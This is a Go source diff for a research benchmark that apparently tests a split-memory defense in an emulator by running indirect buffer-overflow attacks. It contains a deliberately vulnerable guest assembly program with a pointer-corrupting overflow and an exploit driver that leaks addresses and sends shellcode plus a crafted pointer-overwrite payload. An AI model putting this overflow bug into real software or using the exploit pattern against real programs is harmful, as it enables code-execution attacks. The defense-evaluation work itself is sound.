@@ -1,0 +1,261 @@
+package attacks
+
+import (
+	"fmt"
+
+	"splitmem"
+	"splitmem/internal/guest"
+)
+
+// Wilander & Kamkar's benchmark distinguishes *direct* overflows (the
+// overflow itself smashes the target) from *indirect* ones: the overflow
+// corrupts a pointer, and a later legitimate-looking assignment through
+// that pointer performs an attacker-controlled 4-byte write anywhere in the
+// address space. These forms defeat many canary-style defenses; for the
+// split-memory architecture they are just another way to reach step 3 of
+// §3.2, and the injected code remains unfetchable all the same.
+
+// Indirect techniques (appended to the direct ones in Table 1).
+const (
+	TechIndirectRet     Technique = 100 + iota // pointer write to the return address
+	TechIndirectFuncPtr                        // pointer write to a distant function pointer
+)
+
+// AllTechniques returns direct plus indirect techniques (extended Table 1).
+func AllTechniques() []Technique {
+	return append(Techniques(), TechIndirectRet, TechIndirectFuncPtr)
+}
+
+func (t Technique) indirect() bool {
+	return t == TechIndirectRet || t == TechIndirectFuncPtr
+}
+
+// TechniqueName names direct and indirect techniques for table rendering.
+func TechniqueName(t Technique) string { return techniqueName(t) }
+
+func techniqueName(t Technique) string {
+	switch t {
+	case TechIndirectRet:
+		return "Return address (indirect ptr)"
+	case TechIndirectFuncPtr:
+		return "Function pointer (indirect ptr)"
+	}
+	return t.String()
+}
+
+// indirectVictimSource builds the vulnerable program for an indirect cell:
+// the overflow corrupts a pointer variable; the program then stores an
+// attacker-supplied word through it.
+func indirectVictimSource(tech Technique, seg Segment) string {
+	alloc := segAlloc(seg)
+	trigger := ""
+	statics := segStatics(TechRet, seg) // codebuf statics only
+	if tech == TechIndirectFuncPtr {
+		trigger = `
+    mov ecx, g_fptr
+    load eax, [ecx]
+    call eax`
+		statics += "g_fptr: .word benign\n"
+	}
+	return fmt.Sprintf(`
+_start:%s
+    ; leak the injection buffer address
+    push esi
+    mov eax, leakbuf
+    push eax
+    call itoa_hex
+    add esp, 8
+    mov eax, leakpfx
+    push eax
+    call print
+    add esp, 4
+    mov eax, leakbuf
+    push eax
+    call print
+    add esp, 4
+    mov eax, newline
+    push eax
+    call print
+    add esp, 4
+    ; receive the attack code
+    mov eax, 256
+    push eax
+    push esi
+    mov eax, 0
+    push eax
+    call read_exact
+    add esp, 12
+    call vuln
+    mov eax, survived
+    push eax
+    call print
+    add esp, 4
+    mov eax, 0
+    push eax
+    call exit
+
+vuln:
+    push ebp
+    mov ebp, esp
+    sub esp, 72            ; buf (64) below the pointer variable at ebp-8
+    ; leak the frame ("FRM xxxxxxxx"), standing in for the usual stack leak
+    push ebp
+    mov eax, leakbuf
+    push eax
+    call itoa_hex
+    add esp, 8
+    mov eax, frmpfx
+    push eax
+    call print
+    add esp, 4
+    mov eax, leakbuf
+    push eax
+    call print
+    add esp, 4
+    mov eax, newline
+    push eax
+    call print
+    add esp, 4
+    ; ptr = &scratch (a legitimate output location)
+    mov eax, scratch
+    store [ebp-8], eax
+    ; BUG: 68 bytes into a 64-byte buffer - corrupts ptr
+    mov eax, 68
+    push eax
+    lea eax, [ebp-72]
+    push eax
+    mov eax, 0
+    push eax
+    call read_exact
+    add esp, 12
+    ; read the "result" and store it through ptr: *ptr = value
+    mov eax, 4
+    push eax
+    mov eax, valbuf
+    push eax
+    mov eax, 0
+    push eax
+    call read_exact
+    add esp, 12
+    load ecx, [ebp-8]
+    mov eax, valbuf
+    load eax, [eax]
+    store [ecx], eax       ; the attacker-controlled arbitrary write
+%s
+    mov esp, ebp
+    pop ebp
+    ret
+benign:
+    ret
+
+.data
+leakpfx:  .asciz "BUF "
+frmpfx:   .asciz "FRM "
+newline:  .asciz "\n"
+survived: .asciz "SURVIVED\n"
+leakbuf:  .space 12
+scratch:  .word 0
+valbuf:   .word 0
+%s
+`, alloc, trigger, statics)
+}
+
+// segAlloc reproduces the per-segment codebuf allocation snippet.
+func segAlloc(seg Segment) string {
+	switch seg {
+	case SegStack:
+		return `
+    sub esp, 256
+    mov esi, esp            ; codebuf on the stack`
+	case SegHeap:
+		return `
+    mov eax, 256
+    push eax
+    call malloc
+    add esp, 4
+    mov esi, eax            ; codebuf on the heap`
+	case SegBSS:
+		return `
+    mov esi, bssbuf         ; codebuf in bss`
+	default:
+		return `
+    mov esi, databuf        ; codebuf in data`
+	}
+}
+
+// runIndirectCell drives one indirect benchmark cell.
+func runIndirectCell(cfg splitmem.Config, tech Technique, seg Segment) (Result, error) {
+	src := indirectVictimSource(tech, seg)
+	t, err := NewTarget(cfg, src, fmt.Sprintf("wilander-ind-%d-%d", tech, seg))
+	if err != nil {
+		return Result{}, err
+	}
+	prog, err := splitmem.Assemble(guest.WithCRT(src))
+	if err != nil {
+		return Result{}, err
+	}
+	out, ok := t.WaitOutput("BUF ")
+	if !ok {
+		return Result{Notes: "no leak: " + out}, nil
+	}
+	codebuf, err := parseLeak(out, "BUF ")
+	if err != nil {
+		return Result{}, err
+	}
+	t.Send(shellcodeFor(TechRet, codebuf))
+	out, ok = t.WaitOutput("FRM ")
+	if !ok {
+		return Result{Notes: "no frame leak: " + out}, nil
+	}
+	frame, err := parseLeak(out, "FRM ")
+	if err != nil {
+		return Result{}, err
+	}
+	var target uint32
+	switch tech {
+	case TechIndirectRet:
+		target = frame + 4 // the saved return address slot
+	case TechIndirectFuncPtr:
+		target, _ = prog.Symbol("g_fptr")
+	}
+	payload := pad(nil, 64, 0x41)
+	payload = append(payload, le32(target)...)  // the corrupted pointer
+	payload = append(payload, le32(codebuf)...) // the "value" = &shellcode
+	t.Send(payload)
+	t.Close()
+	t.Run()
+	return t.Result(), nil
+}
+
+// RunExtendedWilander executes the 8x4 grid (direct + indirect forms).
+func RunExtendedWilander(cfg splitmem.Config) ([]CellResult, error) {
+	var cells []CellResult
+	for _, tech := range AllTechniques() {
+		for _, seg := range Segments() {
+			var base, prot Result
+			var err error
+			if tech.indirect() {
+				base, err = runIndirectCell(splitmem.Config{Protection: splitmem.ProtNone}, tech, seg)
+				if err == nil {
+					prot, err = runIndirectCell(cfg, tech, seg)
+				}
+			} else {
+				base, err = runCellOnce(splitmem.Config{Protection: splitmem.ProtNone}, tech, seg)
+				if err == nil {
+					prot, err = runCellOnce(cfg, tech, seg)
+				}
+			}
+			if err != nil {
+				return nil, fmt.Errorf("%s/%v: %w", techniqueName(tech), seg, err)
+			}
+			cells = append(cells, CellResult{
+				Tech:     tech,
+				Seg:      seg,
+				NA:       !base.Succeeded(),
+				Result:   prot,
+				Baseline: base,
+			})
+		}
+	}
+	return cells, nil
+}
